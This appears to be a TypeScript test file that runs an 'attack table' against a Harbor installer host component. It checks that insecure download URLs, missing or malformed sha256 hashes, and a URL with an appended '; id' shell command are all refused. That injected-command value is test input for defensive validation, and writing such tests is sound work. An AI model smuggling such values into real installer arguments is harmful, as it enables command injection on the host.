// (i) The Harbor installer runs as root: https and a sha256 only.

const I = "(i) Harbor installer over http or without a sha256";
const harbor = (over: Record<string, unknown>) => () =>
  new lib.HarborHost("hb", { host: host(50, "ci-1"), installerSha256: HARBOR_SHA, ...over });
for (const [argument, value, over] of [
  [
    "installerUrl",
    "http://mirror.example.com/harbor.tgz",
    { installerUrl: "http://mirror.example.com/harbor.tgz" },
  ],
  ["installerUrl", "ftp://example.com/harbor.tgz", { installerUrl: "ftp://example.com/harbor.tgz" }],
  ["installerUrl", "file:///tmp/harbor.tgz", { installerUrl: "file:///tmp/harbor.tgz" }],
  [
    "installerUrl",
    "https://mirror.example.com/harbor.tgz; id",
    { installerUrl: "https://mirror.example.com/harbor.tgz; id" },
  ],
  ["installerSha256", undefined, { installerSha256: undefined }],
  ["installerSha256", "", { installerSha256: "" }],
  ["installerSha256", "abc123", { installerSha256: "abc123" }],
  ["installerSha256", "z".repeat(64), { installerSha256: "z".repeat(64) }],
] as [string, unknown, Record<string, unknown>][]) {
  add(
    I,
    `HarborHost ${argument} = ${JSON.stringify(value) ?? "undefined"}`,
    "refused",
    () => refusedNow(harbor(over)),
    `${argument}: received `,
  );
}

// ---------------------------------------------------------------------------------------------

interface Row {
  category: string;
  input: string;
  outcome: string;
  evidence: string;
}
const results: Row[] = [];

afterAll(() => {
  const dir = process.env.PROOF_RESULTS_DIR;
  if (!dir) return;
  const categories = [...new Set(trials.map((t) => t.category))].map((category) => {
    const rows = results.filter((r) => r.category === category);
    const outcomes = [...new Set(rows.map((r) => r.outcome))].map((outcome) => {
      const of = rows.filter((r) => r.outcome === outcome);
      return { outcome, count: of.length, example: { input: of[0].input, evidence: of[0].evidence } };
    });
    return {
      category,
      tried: trials.filter((t) => t.category === category).length,
      passed: rows.length,
      outcomes,
    };
  });
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(
    path.join(dir, "attack-table.json"),
    `${JSON.stringify({ tried: trials.length, passed: results.length, categories, rows: results }, null, 2)}\n`,
  );
});

describe("attack table (issue 12)", () => {
  it.each(trials.map((t, i) => [i, `${t.category}: ${t.input} -> ${t.expected}`] as const))(
    "#%i %s",
    async (i) => {
      const t = trials[i];
      await settle();
      const seen = await t.run();
      if (seen.outcome !== t.expected) {
        throw new Error(`expected ${t.expected}, got ${seen.outcome}: ${seen.evidence}`);
      }
      expect(seen.evidence).toContain(t.message ?? "");
      // A secret never appears in what the table shows.
      expect(seen.evidence).not.toContain(PRIVATE_KEY);
      results.push({ category: t.category, input: t.input, outcome: seen.outcome, evidence: seen.evidence });
    },
  );

  it("tried every category of the issue", () => {
    expect(new Set(trials.map((t) => t.category.slice(0, 3)))).toEqual(
      new Set(["(a)", "(b)", "(c)", "(d)", "(e)", "(f)", "(g)", "(h)", "(i)"]),
    );
  });
});
